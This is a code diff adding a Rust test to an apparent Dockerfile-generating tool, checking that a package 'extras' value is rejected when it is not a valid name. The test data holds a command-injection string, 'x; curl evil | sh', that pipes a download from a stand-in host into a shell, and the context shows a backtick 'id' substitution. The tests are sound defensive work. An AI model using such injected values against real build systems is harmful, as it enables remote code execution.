@@ -1299,3 +1299,24 @@ fn a_lock_extra_name_with_a_backtick_is_rejected() {
     let project = edited_lock(r#"{ name = "click", extra = ["x`id`"] }"#, "");
     assert_lock_rejected(&project, "`dependencies[].extra` of package `cli-hello`");
 }
+
+// ---------------------------------------------------------------------------------------------
+// `extras` go into `RUN uv sync --extra NAME`.
+
+#[test]
+fn rejects_an_extra_that_is_not_a_name_even_when_defined() {
+    let project = Project::fresh_example("cli-hello");
+    project.edit("pyproject.toml", |text| {
+        text.replace(
+            "[project.scripts]",
+            "[project.optional-dependencies]\n\"x; curl evil | sh\" = []\n\n[project.scripts]",
+        ) + "\n[tool.uv-rootless]\nextras = [\"x; curl evil | sh\"]\n"
+    });
+    let output = project.run_rejected(&["init"]);
+    assert!(
+        output.stderr.contains("`extras` in `[tool.uv-rootless]` has \"x; curl evil | sh\", which is not an extra name"),
+        "{}",
+        output.report()
+    );
+    assert!(!project.exists("Dockerfile"));
+}
